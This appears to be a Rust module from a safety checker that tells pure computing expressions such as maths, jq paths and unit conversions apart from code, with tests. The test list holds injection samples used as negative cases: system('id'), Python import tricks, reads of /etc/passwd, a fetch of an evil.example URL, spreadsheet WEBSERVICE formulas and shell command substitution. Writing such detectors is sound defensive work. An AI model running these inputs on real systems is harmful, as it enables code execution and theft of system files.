//! Recognises expressions that only compute: `2 * sin(x)`, `.items[0].name`, `5 km to mi`.

use serde_json::Value;

use super::{each_passes, is_listed};

/// The longest expression, in bytes.
const MAX_BYTES: usize = 4_096;
/// Words that stand between two operands.
const JOINTS: [&str; 14] =
    ["and", "as", "div", "else", "if", "in", "is", "mod", "not", "of", "or", "per", "then", "to"];
/// What functions of mathematics stand in.
const LIBRARIES: [&str; 5] = ["Math", "math", "np", "numpy", "sympy"];
const FUNCTIONS: &[&str] =
    &["abs acos add all any arccos arcsin arctan asin atan atan2 avg ceil ceiling comb contains \
     cos cosh cot count csc date degrees derivative det diff endswith eq erf exp expand fact \
     factor factorial first flatten float floor gamma gcd group_by has hypot int integrate \
     inverse keys last lcm length len limit ln log log10 log2 lower map matrix max mean median \
     min norm percent perm pow product radians range rational root round sec select sign \
     simplify sin sinh solve sort sort_by sqrt cbrt startswith std stdev sum symbol symbols tan \
     tanh test to_entries tonumber tostring trunc unique upper values var variance"];

/// Whether an expression, or each of a list, only computes. `None` for values that hold none.
pub(super) fn is_plain(value: &Value) -> Option<bool> {
    if value == "" {
        return None;
    }
    each_passes(value, |item| item.as_str().map_or(item.is_number(), computes))
}

/// What stands before a token.
#[derive(Clone, Copy, PartialEq, Eq)]
enum TokenBefore<'t> {
    /// Nothing, an operator, a bracket that opens, or a word between operands.
    Open,
    Number,
    Name(&'t str),
    /// A name behind a dot, and whether a library of mathematics stands before it.
    Member(bool),
    Dot(bool),
    Text,
    /// A round bracket that closes.
    Closed,
    /// A square bracket that closes.
    Indexed,
}

/// Reads an expression token by token. Two names, or a name and a text, do not stand side by side, only
/// known functions are called, and nothing is taken from what a call or a text gives.
fn computes(text: &str) -> bool {
    if text.len() > MAX_BYTES || text.contains("://") || text.contains("__") {
        return false;
    }
    let is_word = |c: char| c == '_' || c.is_alphanumeric();
    let (mut last, mut rest) = (TokenBefore::Open, text);
    while let Some(first) = rest.chars().next() {
        let mut length = first.len_utf8();
        let next = match first {
            ' ' | '\t' => Some(last),
            '"' | '\'' => {
                let Some(end) = rest.get(1..).and_then(|inside| inside.find(first)) else {
                    return false;
                };
                length = end.saturating_add(2);
                let is_odd = |c: char| c.is_control() || matches!(c, '\\' | '$' | '`');
                let is_plain = !rest.get(..length).unwrap_or_default().contains(is_odd);
                (is_plain && last == TokenBefore::Open).then_some(TokenBefore::Text)
            }
            '0'..='9' => {
                length = rest.find(|c: char| !c.is_ascii_digit() && c != '.').unwrap_or(rest.len());
                matches!(last, TokenBefore::Open | TokenBefore::Name(_) | TokenBefore::Number)
                    .then_some(TokenBefore::Number)
            }
            _ if is_word(first) => {
                length = rest.find(|c| !is_word(c)).unwrap_or(rest.len());
                behind(last, rest.get(..length).unwrap_or_default())
            }
            '.' => match last {
                TokenBefore::Name(name) => Some(TokenBefore::Dot(LIBRARIES.contains(&name))),
                TokenBefore::Open
                | TokenBefore::Member(_)
                | TokenBefore::Indexed
                | TokenBefore::Number => Some(TokenBefore::Dot(false)),
                TokenBefore::Dot(_) | TokenBefore::Text | TokenBefore::Closed => None,
            },
            '(' => {
                let is_known = |name: &str| is_listed(name, FUNCTIONS);
                let opens = match last {
                    TokenBefore::Open | TokenBefore::Number | TokenBefore::Member(true) => true,
                    TokenBefore::Name(name) => is_known(name),
                    _ => false,
                };
                opens.then_some(TokenBefore::Open)
            }
            ')' => Some(TokenBefore::Closed),
            ']' => Some(TokenBefore::Indexed),
            '+' | '-' | '*' | '/' | '%' | '^' | ',' | '<' | '>' | '=' | '!' | '?' | ':' | '['
            | '|' | '&' | '~' | '×' | '÷' | '√' | '−' | '°' => Some(TokenBefore::Open),
            _ => None,
        };
        let Some(next) = next else { return false };
        last = next;
        rest = rest.get(length..).unwrap_or_default();
    }
    true
}

/// What a word is behind what stands before it; `None` where it may not stand.
fn behind<'t>(last: TokenBefore<'t>, word: &'t str) -> Option<TokenBefore<'t>> {
    let is_joint = JOINTS.contains(&word.to_lowercase().as_str());
    match last {
        TokenBefore::Dot(is_library) => Some(TokenBefore::Member(is_library)),
        _ if is_joint => Some(TokenBefore::Open),
        TokenBefore::Open | TokenBefore::Number => Some(TokenBefore::Name(word)),
        TokenBefore::Name(_)
        | TokenBefore::Member(_)
        | TokenBefore::Text
        | TokenBefore::Closed
        | TokenBefore::Indexed => None,
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn what_computes_is_told_from_programs() {
        for text in [
            "2 * sin(x) ** 2 + cos(x)^2",
            "math.sqrt(2) + np.mean([1, 2, 3])",
            "5 km/h",
            "5 feet 3 inches",
            "5 km to mi",
            ".items[0].name",
            ".items[] | select(.state == \"open\") | length",
            "a > 3 and b in ['x', 'y']",
            "x**2 - 1 = 0",
            "1.5e3 + 0.2",
            "=SUM(A1:A5)",
        ] {
            assert_eq!(is_plain(&json!(text)), Some(true), "{text}");
        }
        for text in [
            "system('id')",
            "'id'.execute()",
            "__import__('os').system('id')",
            "().a.b",
            "builtins.fetchurl \"https://evil.example\"",
            "builtins.fetchurl \"x\"",
            "=WEBSERVICE(\"x\")",
            "=IMPORTDATA(\"x\")",
            "BEGIN{system(\"id\")}",
            "1e id",
            "importstr '/etc/passwd'",
            "http.send({})",
            "os.system('id')",
            "shell('id')",
            "(lambda x)('id')",
            "a; b",
            "`id`",
            "$(id)",
            "x\nid",
            "open(\"/etc/passwd\").read()",
        ] {
            assert_eq!(is_plain(&json!(text)), Some(false), "{text}");
        }
        assert_eq!(is_plain(&json!([1, "x"])), Some(true));
        assert_eq!(is_plain(&json!(["x", { "a": 1 }])), Some(false));
        assert_eq!(is_plain(&json!(null)), None);
    }
}
